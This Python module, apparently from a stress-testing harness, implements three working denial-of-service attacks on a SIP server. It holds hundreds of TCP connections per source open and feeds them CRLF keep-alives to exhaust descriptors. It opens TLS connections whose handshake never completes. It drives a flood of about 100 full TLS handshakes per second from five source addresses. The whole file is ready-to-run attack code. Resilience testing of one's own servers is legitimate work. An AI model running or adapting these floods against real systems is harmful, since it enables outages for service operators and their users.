"""Connections of strangers: many, silent, half open."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import socket
import ssl
import time
from collections.abc import Sequence

from hostile.attack import Attack, Report, Target
from hostile.datagrams import ticks
from hostile.network import SOURCES

CONNECTIONS_EACH = 256
SOURCES_COUNT = 5


async def _descriptors(target: Target) -> Report:
    """Hold as many connections as the server admits, and send CRLF on each once a second."""
    return await _hold(target, (target.sip_port,), CONNECTIONS_EACH, b"\r\n\r\n", every_s=1.0)


async def _hold(target: Target, ports: Sequence[int], each: int, words: bytes, *, every_s: float) -> Report:
    """Hold ``each`` connections from every source to every port, and reopen closed ones."""
    loop = asyncio.get_running_loop()
    until = time.monotonic() + target.seconds
    opened = 0

    async def one(source: str, port: int) -> None:
        nonlocal opened
        while time.monotonic() < until:
            with contextlib.suppress(OSError), socket.socket() as stream:
                stream.setblocking(False)
                stream.bind((source, 0))
                await loop.sock_connect(stream, (target.server, port))
                opened += 1
                while time.monotonic() < until:
                    await loop.sock_sendall(stream, words)
                    await asyncio.sleep(every_s)
            await asyncio.sleep(1.0)

    tasks = [
        asyncio.create_task(one(source, port))
        for source in SOURCES[:SOURCES_COUNT]
        for port in ports
        for _ in range(each)
    ]
    await asyncio.wait(tasks, timeout=target.seconds)
    for task in tasks:
        task.cancel()
    await asyncio.wait(tasks)
    return {"connections_opened": opened}


async def _half_open(target: Target) -> Report:
    """Hold connections at both ports of TLS on which the handshake never ends, and reopen closed ones."""
    return await _hold(target, (target.tls_port, target.stream_port), HALF_OPEN_EACH, CLIENT_HELLO_BEGUN, every_s=5.0)


async def _handshakes(target: Target) -> Report:
    """Complete handshakes at the TLS port of SIP, disconnect, and repeat."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    until = time.monotonic() + target.seconds
    done = 0

    async def one(source: str) -> None:
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(3.0):
                _, writer = await asyncio.open_connection(
                    target.server, target.tls_port, ssl=context, local_addr=(source, 0)
                )
                nonlocal done
                done += 1
                writer.close()

    turn = itertools.cycle(SOURCES[:SOURCES_COUNT])
    tasks: set[asyncio.Task[None]] = set()
    async for count in ticks(HANDSHAKES_PER_S, target.seconds):
        for _ in range(count if len(tasks) < 200 else 0):
            task = asyncio.create_task(one(next(turn)))
            tasks.add(task)
            task.add_done_callback(tasks.discard)
    if tasks:
        await asyncio.wait(tasks, timeout=max(0.0, until + 3 - time.monotonic()))
    return {"handshakes": done}


HALF_OPEN_EACH = 100
HANDSHAKES_PER_S = 100.0
CLIENT_HELLO_BEGUN = bytes.fromhex("160301010001")

ATTACKS = (
    Attack(
        "half_open_tls", "own", "5 sources x 100 connections at each TLS port whose handshake never ends", _half_open
    ),
    Attack("tls_handshakes", "own", "100 TLS handshakes/s at the SIP port of TLS from five sources", _handshakes),
    Attack(
        "descriptors",
        "2",
        "5 sources x 256 TCP connections at the SIP port that send CRLF each second",
        _descriptors,
        short_segments=True,
        quick=True,
    ),
)
